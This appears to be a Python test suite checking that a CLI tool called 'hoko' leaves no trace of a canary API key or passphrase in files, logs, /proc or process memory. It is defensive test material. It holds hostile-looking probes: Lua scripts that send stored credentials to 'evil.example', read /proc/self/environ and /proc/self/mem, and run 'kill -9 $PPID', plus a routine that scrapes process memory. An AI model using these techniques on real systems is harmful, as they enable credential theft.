"""A canary key and a canary passphrase, searched for in all that hoko leaves behind.

HOKO names the program under test. Looked at: every file below the home, project and
temp folder, all output at the highest verbosity, /proc of host and worker while a
request is under way, after success and after each kind of failure.
"""

import base64
import os
import re
import resource
import shutil
import signal
import subprocess
import tempfile
import time
import unittest
import urllib.parse

HOKO = os.environ.get("HOKO", "hoko")
KEY = "hk+canary/9d41f0b6=7c2e58a3"  # with bytes that URLs and base64 spell otherwise
PASSPHRASE = "canary passphrase 5f0e1d9c"
REGION_MAX = 1 << 28  # what is larger is a sanitizer's shadow, not memory that was written


def spellings(secret):
    """The secret in plain, base64 at each alignment, URL, hex, JSON and C escapes."""
    plain = secret.encode()
    found = {plain, plain[::-1], urllib.parse.quote(secret, safe="").encode(), urllib.parse.quote_plus(secret).encode(),
             plain.hex().encode(), plain.hex().upper().encode(), plain.hex(" ").encode(), plain.hex(":").encode(),
             secret.replace("/", "\\/").encode(), "".join(f"\\x{b:02x}" for b in plain).encode(),
             plain.decode().encode("utf-16-le")}
    for alphabet in (base64.b64encode, base64.urlsafe_b64encode):
        for before in range(3):
            text = alphabet(b"\0" * before + plain)
            found.add(text[4:-4])  # without the groups that share bytes with what stands around
    return sorted(found)


NEEDLES = spellings(KEY) + spellings(PASSPHRASE) + [KEY[:12].encode()]


def finds(content):
    return [needle for needle in NEEDLES if needle in content]


def read(path):
    try:
        with open(path, "rb") as f:
            return f.read()
    except (PermissionError, FileNotFoundError, ProcessLookupError, OSError):
        return b""


def memory(pid):
    """Yields what is mapped in PID, as far as this user may read it."""
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
            for line in maps.read().splitlines():
                begin, end, access = re.match(r"(\w+)-(\w+) (\S+)", line).groups()
                begin, end = int(begin, 16), int(end, 16)
                if "r" in access and end - begin <= REGION_MAX:
                    try:
                        mem.seek(begin)
                        yield mem.read(end - begin)
                    except OSError:  # the kernel's own pages
                        continue
    except (PermissionError, FileNotFoundError):
        return


def children(pid):
    try:
        with open(f"/proc/{pid}/task/{pid}/children") as f:
            return [int(child) for child in f.read().split()]
    except FileNotFoundError:
        return []


# The same key, as an entry of its own, for what takes hoko.http there.
OTHER = """
    local url = hoko.args[1]
    for i = 1, 5 do
      local answer, message, code = hoko.http.get(url .. "/partners", { auth = "crm", retries = 0 })
      print(answer and answer.status, message, code)
      for name, value in pairs(answer and answer.headers or {}) do print(name, value) end
    end
    print(pcall(hoko.http.get, url .. "/partners", { auth = "crm", headers = { Authorization = "x" } }))
    print(pcall(hoko.http.get, "https://evil.example/", { auth = "crm" }))
    print(pcall(hoko.http.get, (url:gsub("127.0.0.1", "localhost")), { auth = "crm" }))
    error("the end")
"""

# Both keys have been used when what follows goes wrong.
TALK = """
    print(hoko.http.get(hoko.args[1] .. "/partners", { auth = "crm", retries = 0 }))
    for partner in hoko.partners.list() do print(partner.id) end
    io.stdout:flush()
"""


class Canary(unittest.TestCase):
    def setUp(self):
        self.root = tempfile.mkdtemp(prefix="hoko-canary-")
        self.addCleanup(shutil.rmtree, self.root)
        self.project = os.path.join(self.root, "project")
        for folder in ("home", "tmp", "project"):
            os.mkdir(os.path.join(self.root, folder), 0o700)
        self.env = {k: v for k, v in os.environ.items() if k in ("PATH", "LD_LIBRARY_PATH", "ASAN_OPTIONS")}
        self.env.update(HOME=os.path.join(self.root, "home"), TMPDIR=os.path.join(self.root, "tmp"))
        self.hoko("init", self.project)
        self.mocks = []
        self.addCleanup(self.stop_mocks)

    def hoko(self, *words, stdin="", pass_fds=(), **env):
        return subprocess.run([HOKO, *words], env={**self.env, **env}, cwd=self.project, input=stdin.encode(),
                              capture_output=True, timeout=120, pass_fds=pass_fds, start_new_session=True)

    def mock(self, *words):
        mock = subprocess.Popen([HOKO, "mock", "--port", "0", *words], stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE, env=self.env)
        self.mocks.append(mock)
        return mock.stdout.readline().decode().split()[-1]

    def stop_mocks(self):
        output = b""
        for mock in self.mocks:
            mock.terminate()
            out, err = mock.communicate(timeout=30)
            output += out + err
        self.mocks = []
        return output

    def script(self, text):
        path = os.path.join(self.project, "scripts", "probe.lua")
        with open(path, "w") as f:
            f.write(text)
        return path

    def with_keystore(self, url):
        """The key in a keystore that is cheap to open; the passphrase comes through a pipe."""
        shutil.rmtree(os.path.join(self.root, "home", ".config"), ignore_errors=True)
        shutil.rmtree(os.path.join(self.project, ".hoko"), ignore_errors=True)
        lines = f"{PASSPHRASE}\n{KEY}\n"
        added = self.hoko("key", "add", "default", "--passphrase-fd", "0", "--base-url", url, stdin=lines)
        self.assertEqual(added.returncode, 0, added.stderr)
        cheap = self.hoko("key", "passwd", "--kdf", "interactive", "--passphrase-fd", "0",
                          stdin=f"{PASSPHRASE}\n{PASSPHRASE}\n")
        self.assertEqual(cheap.returncode, 0, cheap.stderr)
        other = self.hoko("key", "add", "crm", "--passphrase-fd", "0", "--base-url", url, stdin=lines)
        self.assertEqual(other.returncode, 0, other.stderr)
        return b"".join(done.stdout + done.stderr for done in (added, cheap, other))

    def passphrase_fd(self):
        r, w = os.pipe()
        os.write(w, PASSPHRASE.encode() + b"\n")
        os.close(w)
        self.addCleanup(os.close, r)
        return r

    def assert_clean(self, content, where):
        found = finds(content)
        self.assertEqual(found, [], where)

    def assert_files_clean(self):
        looked_at = 0
        for folder, _, names in os.walk(self.root):
            for name in names:
                path = os.path.join(folder, name)
                self.assert_clean(name.encode(), "a file's name")
                if os.path.isfile(path):
                    self.assert_clean(read(path), path)
                    looked_at += 1
        self.assertGreater(looked_at, 4)

    RUNS = [
        ("success", [], None, 0),
        ("unknown key", ["--key", "hk_another"], None, 5),
        ("missing scope", ["--scopes", "linksRead"], None, 5),
        ("server error", ["--fault", "1-1000:status=503"], None, None),
        ("redirect", ["--fault", "1-1000:redirect=https://evil.example/"], None, 6),
        ("a page of HTML", ["--fault", "1-1000:garbage"], None, None),
        ("cut answer", ["--fault", "1-1000:truncate"], None, None),
        ("reset", ["--fault", "1-1000:reset-before"], None, None),
        ("refused rows", ["--refuse", "a"], None, 3),
        ("script error", [], "error({ env = hoko.args })", 1),
        ("script that looks around", [], """
            for _, path in ipairs({ "/proc/self/environ", "/proc/self/cmdline", "/proc/self/mem", hoko.args[1] or "x" }) do
              print(path, pcall(io.open, path, "rb"))
            end
            print(os.getenv("HOKO_API_KEY"), os.getenv("HOKO_PASSPHRASE_FILE"))
            hoko.partners.upsert({ { name = "A" } }, { stream = "s" })
            for name, value in pairs(_G) do print(name, value) end""", None),
        ("other services", [], OTHER, None),
        ("other services on a bad day", ["--fault", "1:status=401", "--fault", "2:reset-before", "--fault", "3:truncate",
                                         "--fault", "4:redirect=https://evil.example/"], OTHER, None),
    ]

    # Each ends the run from outside: options, script, exit code.
    ENDS = [
        ("time", ["--timeout", "300ms"], TALK + "while true do end", 8),
        ("memory", ["--memory", "32MiB"], TALK + "local t = {} for i = 1, 1e9 do t[i] = { i } end", 8),
        ("killed", [], TALK + 'os.execute("kill -9 $PPID")', -9),
        ("dry run", ["--dry-run"], TALK, None),
        ("rejects", [], TALK + 'hoko.partners.upsert({ { name = "", key = "k" } }, { key = "key", stream = "s" })', None),
    ]

    def run_words(self, url, script, *more):
        path = self.script(script) if script else "scripts/partners.lua"
        return ["run", "-vvv", "--base-url", url, "--give-up", "1s", "--report", "report.json",
                "--allow-net", "127.0.0.1,localhost", "--allow-run", "true", *more, path, *([url] if script else [])]

    def test_no_run_leaves_the_key_of_the_environment_anywhere(self):
        for name, mock, script, code in self.RUNS:
            for log_format in ("text", "json"):
                with self.subTest(run=name, log_format=log_format):
                    url = self.mock(*mock)
                    words = self.run_words(url, script, "--log-format", log_format)
                    done = self.hoko(*words, HOKO_API_KEY=KEY)
                    if code is not None:
                        self.assertEqual(done.returncode, code, done.stderr)
                    self.assert_clean(done.stdout + done.stderr, "output")
                    self.assert_clean(self.stop_mocks(), "the mock's output")
                    self.assert_files_clean()
                    shutil.rmtree(os.path.join(self.project, ".hoko"), ignore_errors=True)

    def test_no_run_leaves_a_key_of_the_keystore_anywhere(self):
        for name, mock, script, _ in self.RUNS:
            with self.subTest(run=name):
                url = self.mock(*mock)
                self.assert_clean(self.with_keystore(url), "output of hoko key")
                fd = self.passphrase_fd()
                words = self.run_words(url, script, "--passphrase-fd", str(fd))
                done = self.hoko(*words, pass_fds=[fd])
                self.assert_clean(done.stdout + done.stderr, "output")
                for more in (["key", "list"], ["key", "test", "--base-url", url]):
                    fd = self.passphrase_fd()
                    done = self.hoko(*more, "-vvv", "--passphrase-fd", str(fd), pass_fds=[fd])
                    self.assert_clean(done.stdout + done.stderr, more)
                self.assert_clean(self.stop_mocks(), "the mock's output")
                self.assert_files_clean()

    def test_no_end_from_outside_leaves_a_key_anywhere(self):
        for name, options, script, code in self.ENDS:
            with self.subTest(run=name):
                url = self.mock("--partners", "3")
                self.with_keystore(url)
                fd = self.passphrase_fd()
                done = self.hoko(*self.run_words(url, script, "--passphrase-fd", str(fd), *options), pass_fds=[fd])
                if code is not None:
                    self.assertEqual(done.returncode, code, done.stderr)
                self.assertIn(b"00000000-0000-4000-8000-000000000001", done.stdout)  # the key was used
                self.assert_clean(done.stdout + done.stderr, "output")
                self.assert_clean(self.stop_mocks(), "the mock's output")
                self.assert_files_clean()

    def stalled_run(self):
        """A run whose request is on the wire and will not be answered soon."""
        url = self.mock("--fault", "1-1000:stall=60s")
        run = subprocess.Popen([HOKO, *self.run_words(url, None)], env={**self.env, "HOKO_API_KEY": KEY},
                               cwd=self.project, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                               start_new_session=True,
                               preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_CORE, (1 << 30, 1 << 30)))
        port = int(url.split(":")[2].split("/")[0])
        deadline = time.monotonic() + 30
        while not self.is_connected(port):
            self.assertLess(time.monotonic(), deadline)
            self.assertIsNone(run.poll())
            time.sleep(0.02)
        return run

    @staticmethod
    def is_connected(port):
        with open("/proc/net/tcp") as f:
            return any(line.split()[2].endswith(f":{port:04X}") and line.split()[3] == "01" for line in f)

    def end(self, run):
        out, err = run.communicate(timeout=60)
        self.assert_clean(out + err, "output")
        self.stop_mocks()
        self.assert_files_clean()

    def test_proc_tells_nothing_while_a_request_is_under_way(self):
        run = self.stalled_run()
        workers = children(run.pid)
        for pid in [run.pid, *workers]:
            for name in ("cmdline", "environ", "status", "comm"):
                self.assert_clean(read(f"/proc/{pid}/{name}"), f"{name} of {pid}")
        self.assertTrue(workers)
        for pid in workers:
            for region in memory(pid):
                self.assert_clean(region, "the worker's memory")
        if os.geteuid() == 0:  # who may look at the host finds it there, so this search can find
            self.assertTrue(any(KEY.encode() in region for region in memory(run.pid)))
        run.send_signal(signal.SIGKILL)
        self.end(run)

    def test_a_crash_leaves_no_core(self):
        run = self.stalled_run()
        run.send_signal(signal.SIGABRT)
        self.end(run)
        self.assertEqual([name for name in os.listdir(self.project) if name.startswith("core")], [])

    def test_the_search_finds_what_is_there(self):
        for spelled in spellings(KEY):
            self.assertNotEqual(finds(b"before " + spelled + b" behind"), [])
        self.assertNotEqual(finds(base64.b64encode(b"Authorization: Bearer " + KEY.encode() + b"\r\n")), [])


if __name__ == "__main__":
    unittest.main()
